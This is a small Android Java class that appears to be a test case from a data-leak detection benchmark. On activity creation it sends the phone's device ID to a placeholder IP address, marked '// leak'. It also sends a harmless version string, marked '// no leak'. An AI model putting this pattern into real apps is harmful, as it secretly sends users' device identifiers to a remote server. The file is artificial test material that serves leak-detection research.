package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;

/** Orders by their names. */
public class Words extends Activity {
    private String answer(String order) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        switch (order) {
            case "id":
                return phone.getDeviceId();
            case "version":
                return "1.0";
            default:
                return "";
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            new URL("http://203.0.113.3/" + answer("id")).openStream(); // leak
            new URL("http://203.0.113.3/" + answer("version")).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
